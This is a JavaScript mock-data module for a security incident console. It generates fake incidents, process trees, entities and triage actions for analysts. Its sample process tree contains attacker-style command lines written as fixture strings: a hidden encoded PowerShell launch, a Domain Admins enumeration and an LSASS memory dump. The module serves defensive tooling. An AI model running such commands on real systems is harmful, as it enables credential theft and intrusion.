import { ago, dice, guid } from './random.mjs';
import { hostile, hosts, rules, tacticNames, techniqueNames, users } from './world.mjs';
import { findings } from './findings.mjs';

const stories = [
  ['Password theft on DOCTOR-04 after a document from outside', 'critical', [0, 1, 2, 8], 'A document started PowerShell, and 4 minutes later the same account read the memory of LSASS.'],
  ['Files being destroyed on SRV-FILES', 'critical', [5, 3, 9], 'Shadow copies were deleted right after a new service appeared; both are rare here.'],
  ['Password guessing against web01 that worked', 'high', [4, 6], '412 failed sign-ins from one address, then one that worked, then a web shell.'],
  ['Remote desktop into LAB-PC-07 at night', 'medium', [7, 8], 'j.haddad never signed in to this machine before, and not at this time of day.'],
  ['Unusual script on NURSE-11', 'medium', [1, 10], 'An encoded command line of a kind that was seen on no other machine in 30 days.'],
  ['Large upload from SRV-PACS', 'high', [9], '38 GB went to an address nobody here talked to before.'],
  [`Suspicious name: ${hostile[0]}`, 'low', [11], `DNS asked for ${hostile[1]} three times.`],
  ['Firewall rule added on ADMIN-LT3', 'informational', [12], 'One rule, one machine, during working hours.'],
];
const owners = [null, null, 'maria', 'tom', 'maria'];
const verdicts = ['malicious', 'suspicious', 'benign', 'false-positive'];
const minutesBySeverity = { critical: 60, high: 240, medium: 1440, low: 4320, informational: 10080 };

const d = dice(7);
export const incidents = Array.from({ length: 64 }, (_, i) => {
  const story = stories[i % stories.length];
  const age = i < 8 ? 8 + i * 27 : 240 + i * 190;
  const state = i < 8 ? (i === 2 ? 'claimed' : 'new') : d.pick(['new', 'claimed', 'closed', 'closed', 'closed']);
  const owner = state === 'new' ? null : (d.pick(owners) ?? 'maria');
  const host = hosts[(i * 5 + 2) % hosts.length];
  return {
    id: guid(1000 + i), number: 240 - i, title: i < 8 ? story[0] : story[0].replace(/[A-Z]+-[A-Z0-9]+|web01/, host), severity: story[1],
    confidence: [94, 88, 81, 47, 52, 66, 23, 12][i % 8], state, verdict: state === 'closed' ? d.pick(verdicts) : null, owner,
    first: i === 6 ? null : ago(age + 42), last: i === 6 ? null : ago(age + 3), created: ago(age), updated: ago(Math.max(1, age - 5)),
    due: state === 'new' ? new Date(Date.now() + (minutesBySeverity[story[1]] - age) * 60000).toISOString() : null,
    findings: 2 + d.below(40), hosts: [host, ...(i % 3 ? [] : ['SRV-DC1'])], users: [users[i % users.length]],
    tactics: [...new Set(story[2].flatMap((r) => rules[r].tactics))], why: story[3], source: 'rules', story,
  };
});

const strip = ({ story: _, ...row }) => row;
export const row = strip;

export function page(q) {
  const words = (q.get('q') ?? '').toLowerCase();
  let items = incidents.filter((i) =>
    (!q.get('state') || q.get('state').split(',').includes(i.state)) && (!q.get('severity') || q.get('severity').split(',').includes(i.severity)) &&
    (!q.get('owner') || (q.get('owner') === 'none' ? !i.owner : i.owner === (q.get('owner') === 'me' ? 'maria' : q.get('owner')))) &&
    (!words || JSON.stringify(strip(i)).toLowerCase().includes(words)) &&
    (!q.get('from') || i.updated >= q.get('from')) && (!q.get('until') || i.created < q.get('until')));
  const rank = ['informational', 'low', 'medium', 'high', 'critical'];
  const sort = q.get('sort') || 'urgency';
  const by = {
    urgency: (a, b) => (a.state === 'closed') - (b.state === 'closed') || rank.indexOf(b.severity) - rank.indexOf(a.severity) || (a.due ?? '9').localeCompare(b.due ?? '9'),
    updated: (a, b) => b.updated.localeCompare(a.updated), created: (a, b) => b.created.localeCompare(a.created),
    confidence: (a, b) => b.confidence - a.confidence,
  }[sort] ?? (() => 0);
  items = items.sort(by);
  const offset = Number(q.get('offset') ?? 0);
  return { items: items.slice(offset, offset + Number(q.get('limit') ?? 100)).map(strip), total: items.length, asOf: new Date().toISOString() };
}

const notes = new Map();
export function addNote(id, author, text) {
  const note = { id: guid(Date.now() & 0xffff), author, time: new Date().toISOString(), text };
  notes.set(id, [...(notes.get(id) ?? []), note]);
  return note;
}

export function detail(id) {
  const i = incidents.find((x) => x.id === id);
  if (!i) return null;
  const own = findings.filter((f) => i.story[2].includes(rules.findIndex((r) => r.id === f.rule))).slice(0, 14);
  const chain = i.tactics.map((t) => ({
    tactic: t, name: tacticNames[t] ?? t, findings: 3,
    techniques: [...new Set(i.story[2].map((r) => rules[r]).filter((r) => r.tactics.includes(t)).flatMap((r) => r.techniques))].map((x) => ({ id: x, name: techniqueNames[x] })),
  }));
  const process = (key, image, commandLine, children, n = 0) => ({ key, image, commandLine, user: 'CLINIC\\j.haddad', host: i.hosts[0], findings: own.slice(n, n + 1).map((f) => f.id), children });
  return {
    incident: strip(i),
    summary: `${i.why} It began on ${i.hosts[0]} with the account ${i.users[0]}. ${i.findings} findings belong together because they share machines, accounts and files. Nobody has done anything like it here in the last 30 days.`,
    why: [i.why, 'The account had never run this program before.', `The file ${hostile[1]} came from outside 11 minutes earlier.`],
    benign: ['The administrator ran this on purpose: ask who worked on this machine at that time.', 'The program is part of the backup software (then its file is signed by its maker).', 'A test of the security equipment was announced.'],
    act: [`Take ${i.hosts[0]} off the network (leave it switched on).`, `Change the password of ${i.users[0]} and end its sessions.`, 'Look whether the same file is on other machines: search for its hash.', 'Keep the logs: export this incident.'],
    rarity: ['This parent and child program were seen together for the first time in 30 days.', '1 of 12 machines has this file.'],
    timeline: own.map((f, n) => ({ finding: f.id, time: n === 3 ? null : ago(50 - n * 3), last: ago(49 - n * 3), count: n === 1 ? 17 : 1, rule: f.title, level: f.level, host: f.host, detail: f.detail, tactics: rules.find((r) => r.id === f.rule).tactics })),
    entities: [
      { id: 'h1', kind: 'host', value: i.hosts[0], roles: ['victim'], findings: 12 }, { id: 'u1', kind: 'user', value: i.users[0], roles: ['actor'], findings: 11 },
      { id: 'p1', kind: 'process', value: 'WINWORD.EXE', roles: ['parent'], findings: 3 }, { id: 'p2', kind: 'process', value: 'powershell.exe', roles: ['actor'], findings: 8 },
      { id: 'f1', kind: 'file', value: hostile[1], roles: ['dropped'], findings: 2 }, { id: 'a1', kind: 'address', value: '203.0.113.77', roles: ['peer'], findings: 4 },
      { id: 'd1', kind: 'domain', value: hostile[0], roles: ['asked for'], findings: 1 }, { id: 'x1', kind: 'hash', value: '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08', roles: [], findings: 2 },
      { id: 'h2', kind: 'host', value: 'SRV-DC1', roles: ['target'], findings: 2 },
    ],
    links: [['u1', 'h1', 11], ['p1', 'p2', 3], ['p2', 'f1', 2], ['p2', 'a1', 4], ['h1', 'p1', 3], ['h1', 'h2', 2], ['a1', 'd1', 1], ['f1', 'x1', 2], ['u1', 'p2', 8]].map(([from, to, n]) => ({ from, to, findings: n })),
    processes: [
      process('1', 'C:\\Windows\\explorer.exe', 'explorer.exe', [
        process('2', 'C:\\Program Files\\Microsoft Office\\WINWORD.EXE', `"WINWORD.EXE" /n "C:\\Users\\j.haddad\\Downloads\\${hostile[1]}"`, [
          process('3', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA', [
            process('4', 'C:\\Windows\\System32\\net.exe', 'net group "Domain Admins" /domain', [], 3),
            process('5', 'C:\\Users\\j.haddad\\AppData\\Local\\Temp\\p.exe', `p.exe --dump lsass ${hostile[0]}`, [], 4),
          ], 2),
        ], 1),
      ]),
      process('6', 'C:\\Windows\\System32\\services.exe', null, [process('7', 'C:\\Windows\\System32\\svchost.exe', 'svchost.exe -k netsvcs', [])]),
    ],
    chain, notes: [{ id: guid(4), author: 'tom', time: ago(20), text: 'Called the doctor: she opened an attachment "invoice".\nMachine is off the network now.' }, ...(notes.get(id) ?? [])],
    history: [{ time: i.created, actor: 'hoplite', action: 'created', detail: `${i.findings} findings` }, { time: i.updated, actor: 'hoplite', action: 'grew', detail: '3 more findings' }, ...(i.owner ? [{ time: i.updated, actor: i.owner, action: 'claimed', detail: '' }] : []), ...(i.verdict ? [{ time: i.updated, actor: i.owner, action: 'closed', detail: i.verdict }] : [])],
    similar: incidents.filter((x) => x.story === i.story && x !== i).slice(0, 5).map(strip),
  };
}

const undo = new Map();
export function act({ ids, action, verdict, note }, me) {
  const before = [];
  for (const i of incidents.filter((x) => ids.includes(x.id))) {
    if (action === 'claim' && i.owner && i.owner !== me) continue;
    before.push([i, { state: i.state, owner: i.owner, verdict: i.verdict, due: i.due }]);
    if (action === 'claim') Object.assign(i, { state: 'claimed', owner: me, due: null });
    if (action === 'release') Object.assign(i, { state: 'new', owner: null });
    if (action === 'close') Object.assign(i, { state: 'closed', verdict, owner: i.owner ?? me, due: null });
    if (action === 'reopen') Object.assign(i, { state: 'claimed', verdict: null });
    i.updated = new Date().toISOString();
    if (note) addNote(i.id, me, note);
  }
  return outcome(before);
}
export function outcome(before) {
  if (before.length === 0) return { changed: 0, undo: null, until: null };
  const token = guid(Math.floor(Math.random() * 1e9));
  undo.set(token, before);
  return { changed: before.length, undo: token, until: new Date(Date.now() + 300000).toISOString() };
}
export function revert(token) {
  const before = undo.get(token) ?? [];
  undo.delete(token);
  for (const [target, old] of before) Object.assign(target, old);
  return { changed: before.length, undo: null, until: null };
}
